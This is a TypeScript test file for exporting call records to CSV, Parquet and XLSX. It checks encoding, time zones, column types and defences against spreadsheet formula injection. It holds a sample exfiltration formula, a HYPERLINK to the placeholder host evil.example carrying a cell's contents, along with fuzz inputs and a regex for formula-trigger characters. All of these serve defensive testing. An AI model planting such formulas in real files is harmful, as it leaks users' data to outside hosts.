import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, test } from 'vitest';
import type { CallView } from '../../../shared/calls/view.ts';
import { columns } from '../../../shared/exports/columns.ts';
import { csv } from '../../../shared/exports/csv.ts';
import { parquet } from '../../../shared/exports/parquet.ts';
import { MAX_CALLS, xlsx } from '../../../shared/exports/xlsx.ts';
import { letters } from '../../../shared/exports/xlsx-parts.ts';
import { callOf } from '../../support/calls.ts';
import {
  duckdb,
  fileOf,
  listedCall,
  readCsv,
  readXlsx,
  type SheetCell,
  written,
} from '../../support/exports.ts';

const directory = mkdtempSync(join(tmpdir(), 'exports-'));
afterAll(() => rmSync(directory, { recursive: true }));
const at = (name: string) => join(directory, name);

const RUNS = { seed: 20_261_126, numRuns: 20 };
const LONG_ID = '1688363452814331904';

const cc = (callId: string, fields: object = {}): CallView => listedCall(callOf('cc', { callId, ...fields }));

const HYPERLINK = '=HYPERLINK("http://evil.example?x="&A1,"click")';
const ONE = cc('b1920376', {
  ...{ taskId: LONG_ID, caller: '+85235757581', callee: '85238533300', agentName: HYPERLINK },
  ...{ startTime: 1691372191000, callDuration: 7, totalCustomerPrice: 0.35, answered: true },
  ...{ agentNickName: '陈大文, "小陈"\n第二行', orderId: '0012' },
});

/** A call with these texts, as a list has it. */
const withTexts = (n: number, agentName: string, statusText: string): CallView => ({
  ...cc(`text-${n}`),
  agentName,
  statusText,
});
// An empty text is an absent one.
const text = fc.oneof(
  fc.string({ unit: 'binary', minLength: 1, maxLength: 20 }),
  fc.constantFrom(
    '=1+1',
    '+852',
    '-1',
    '@x',
    '\t=1',
    '\r=1',
    '\uFF1D1',
    '"',
    ',',
    '\r\n',
    "'",
    '_x0041_',
    ' a ',
  ),
);
const calls = fc
  .array(fc.tuple(text, text), { minLength: 1, maxLength: 8 })
  .map((texts) => texts.map(([a, b], n) => withTexts(n, a, b)));

describe('a CSV file', () => {
  test('begins with a byte order mark and has headers in Chinese or English', async () => {
    const [zh, en] = [
      await fileOf(csv, [ONE], { language: 'zh', zone: 'Asia/Shanghai' }),
      await fileOf(csv, [ONE], { language: 'en', zone: 'Asia/Shanghai' }),
    ];

    expect([...zh.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(zh.toString().split('\r\n')[0]).toMatch(/^\uFEFF通话ID,租户ID,.*,主叫号码,被叫号码,/);
    expect(en.toString().split('\r\n')[0]).toMatch(/^\uFEFFCall ID,Tenant ID,.*,Caller,Callee,/);
  });

  test('has a row for each call, with times as the clocks of the zone show them and nothing that a spreadsheet runs', async () => {
    const path = written(at('one.csv'), await fileOf(csv, [ONE, cc('2'), cc('3')]));
    const [first, ...others] = await readCsv(path);

    expect(others).toHaveLength(2);
    expect(first).toMatchObject({
      'Call ID': 'b1920376',
      'Task ID': LONG_ID,
      'Order ID': '0012',
      Caller: "'+85235757581",
      Callee: '85238533300',
      Agent: `'${HYPERLINK}`,
      'Agent nickname': '陈大文, "小陈"\n第二行',
      'Started at': '2023-08-07 09:36:31',
      'Talk time (s)': '7',
      Answered: 'true',
      Abandoned: null,
      Cost: '0.35',
      Key: 'cc#b1920376',
    });
  });

  test('keeps every text, with an apostrophe before what a spreadsheet would run', async () => {
    await fc.assert(
      fc.asyncProperty(calls, async (some) => {
        const rows = await readCsv(written(at('texts.csv'), await fileOf(csv, some)));
        const shown = (value = '') =>
          /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(value) ? `'${value}` : value;

        // A lone surrogate has no UTF-8.
        const plain = (value: unknown) => String(value).toWellFormed().replaceAll('\0', '\uFFFD');
        expect(rows.map((row) => row.Agent)).toEqual(some.map((call) => plain(shown(call.agentName))));
        expect(rows.map((row) => row['Status text'])).toEqual(
          some.map((call) => plain(shown(call.statusText))),
        );
      }),
      RUNS,
    );
  });

  test.each([
    ['Europe/Berlin', '2026-03-29T00:59:59.000Z', '2026-03-29 01:59:59'],
    ['Europe/Berlin', '2026-03-29T01:00:00.000Z', '2026-03-29 03:00:00'],
    ['Europe/Berlin', '2026-10-25T00:59:59.999Z', '2026-10-25 02:59:59'],
    ['Europe/Berlin', '2026-10-25T01:00:00.000Z', '2026-10-25 02:00:00'],
    ['Asia/Kolkata', '2026-11-26T18:29:59.000Z', '2026-11-26 23:59:59'],
    ['Asia/Kolkata', '2026-11-26T18:30:00.000Z', '2026-11-27 00:00:00'],
    // Clocks changed a minute after midnight.
    ['America/St_Johns', '2006-04-02T03:30:59.000Z', '2006-04-02 00:00:59'],
    ['America/St_Johns', '2006-04-02T03:31:00.000Z', '2006-04-02 01:01:00'],
  ])('in %s has %s as %s', async (zone, startedAt, shown) => {
    const path = written(at('dst.csv'), await fileOf(csv, [{ ...ONE, startedAt }], { language: 'en', zone }));

    expect((await readCsv(path))[0]).toMatchObject({ 'Started at': shown });
  });

  test('without calls has its headers', async () => {
    expect((await fileOf(csv, [])).toString()).toMatch(/^\uFEFFCall ID,.*\r\n$/);
  });
});

describe('a Parquet file', () => {
  test('has real types: instants, integers, booleans, and text for ids and exact decimals', async () => {
    const path = written(at('one.parquet'), await fileOf(parquet, [ONE, cc('2'), cc('3')]));
    const [first, ...others] = await duckdb(`SELECT * FROM '${path}'`);
    const types = Object.fromEntries(
      (await duckdb(`DESCRIBE SELECT * FROM '${path}'`)).map(({ column_name, column_type }) => [
        column_name,
        column_type,
      ]),
    );
    const expected = {
      text: 'VARCHAR',
      decimal: 'VARCHAR',
      time: 'TIMESTAMP WITH TIME ZONE',
      integer: 'BIGINT',
      boolean: 'BOOLEAN',
    };

    expect(others).toHaveLength(2);
    expect(types).toEqual(Object.fromEntries(columns.map(({ name, kind }) => [name, expected[kind]])));
    expect(first).toMatchObject({
      taskId: LONG_ID,
      caller: '+85235757581',
      agentName: HYPERLINK,
      startedAt: '2023-08-07 01:36:31+00',
      talkSeconds: '7',
      answered: true,
      abandoned: null,
      cost: '0.35',
      pk: 'cc#b1920376',
    });
  });

  test('keeps every text and every time to the millisecond', async () => {
    const time = fc.date({ min: new Date('2000-01-01'), max: new Date('2099-12-31'), noInvalidDate: true });
    await fc.assert(
      fc.asyncProperty(calls, time, fc.maxSafeInteger(), async (texts, date, hangupCode) => {
        const some = texts.map((call) => ({ ...call, startedAt: date.toISOString(), hangupCode }));
        const path = written(at('texts.parquet'), await fileOf(parquet, some));
        const rows = await duckdb(
          `SELECT agentName, statusText, epoch_ms(startedAt) AS time, hangupCode FROM '${path}'`,
        );

        expect(rows).toEqual(
          some.map(({ agentName, statusText }) => ({
            agentName: agentName?.toWellFormed(),
            statusText: statusText?.toWellFormed(),
            time: String(date.getTime()),
            hangupCode: String(hangupCode),
          })),
        );
      }),
      RUNS,
    );
  });

  test('without calls has its columns', async () => {
    const path = written(at('none.parquet'), await fileOf(parquet, []));

    expect(await duckdb(`SELECT count(*) AS calls, max(startedAt) AS latest FROM '${path}'`)).toEqual([
      { calls: '0', latest: null },
    ]);
  });
});

const LETTERS = Object.fromEntries(columns.map(({ name }, n) => [name, letters(n)]));

describe('an XLSX file', () => {
  /** The cells of a row by the names of their columns. */
  const named = (row: Record<string, SheetCell> = {}): Record<string, SheetCell | undefined> =>
    Object.fromEntries(columns.map(({ name }) => [name, row[LETTERS[name] ?? '']]));

  test('has text cells for ids and numbers, dates in the zone, and no formula', async () => {
    const bytes = await fileOf(xlsx, [ONE, cc('2'), cc('3')], { language: 'zh', zone: 'Asia/Kolkata' });
    const { parts, rows } = readXlsx(bytes);
    const [header, first] = rows;
    const textCell = (value: string) => ({ value, type: 'inlineStr', style: '1' });

    expect(parts).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/workbook.xml',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/worksheets/sheet1.xml',
    ]);
    expect(rows).toHaveLength(4);
    expect(Object.values(header ?? {}).map(({ value }) => value)).toEqual(
      columns.map(({ label }) => label.zh),
    );
    expect(named(first)).toMatchObject({
      taskId: textCell(LONG_ID),
      orderId: textCell('0012'),
      caller: textCell('+85235757581'),
      agentName: textCell(HYPERLINK),
      agentNickname: textCell('陈大文, "小陈"\n第二行'),
      talkSeconds: { value: '7', type: '' },
      cost: { value: '0.35', type: '' },
      answered: { value: '1', type: 'b' },
      abandoned: undefined,
    });
    expect(rows.flatMap((row) => Object.values(row)).filter(({ formula }) => formula)).toEqual([]);
    // 2023-08-07 07:06:31, as Excel counts days.
    expect(Number(named(first).startedAt?.value)).toBeCloseTo(45_145 + (7 * 3600 + 6 * 60 + 31) / 86_400, 9);
  });

  test('keeps every text', async () => {
    await fc.assert(
      fc.asyncProperty(calls, async (some) => {
        const [, ...rows] = readXlsx(await fileOf(xlsx, some)).rows;

        expect(rows.map((row) => row[LETTERS.agentName ?? '']?.value)).toEqual(
          some.map(({ agentName }) => agentName?.toWellFormed()),
        );
      }),
      { ...RUNS, numRuns: 100 },
    );
  });

  test('refuses more calls than a sheet has rows at once', async () => {
    async function* tooMany(): AsyncGenerator<CallView[]> {
      yield [ONE];
      yield new Array(MAX_CALLS).fill(ONE);
    }
    const write = async () => {
      for await (const _ of xlsx(tooMany(), { language: 'en', zone: 'UTC' }));
    };

    await expect(write()).rejects.toThrow(
      'These are more than the 1,048,575 calls that fit into an XLSX file. Choose CSV or Parquet, or a shorter period.',
    );
  });
});
